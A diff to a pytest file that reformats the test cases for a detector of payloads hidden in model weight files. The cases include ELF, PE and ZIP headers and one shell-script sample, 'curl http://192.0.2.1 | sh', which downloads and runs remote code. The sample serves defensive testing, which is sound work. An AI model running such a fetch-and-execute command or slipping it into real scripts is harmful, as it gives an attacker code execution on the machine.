@@ -82,9 +82,15 @@ def test_tables_of_positions_and_masks_are_quiet() -> None:
 
 @pytest.mark.parametrize(
     ("payload", "kind"),
-    [(SCRIPT, "text"), (base64.b64encode(zlib.compress(SCRIPT)), "text"), (ELF, "elf"), (b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n", "script"),
-     (b"PK\x03\x04\x14\x00" + bytes(40), "zip"), (b"MZ\x90\x00" + bytes(80), "pe")],
-)  # fmt: skip
+    [
+        (SCRIPT, "text"),
+        (base64.b64encode(zlib.compress(SCRIPT)), "text"),
+        (ELF, "elf"),
+        (b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n", "script"),
+        (b"PK\x03\x04\x14\x00" + bytes(40), "zip"),
+        (b"MZ\x90\x00" + bytes(80), "pe"),
+    ],
+)
 @pytest.mark.parametrize(("at", "columns"), [(0, 1), (5000, 1), (0, 2), (0, 3)])
 def test_a_readable_payload_is_found(payload: bytes, kind: str, at: int, columns: int) -> None:
     found = [f for f in facts(planted(payload, at=at, columns=columns)) if f.check == "weights.hidden-payload"]
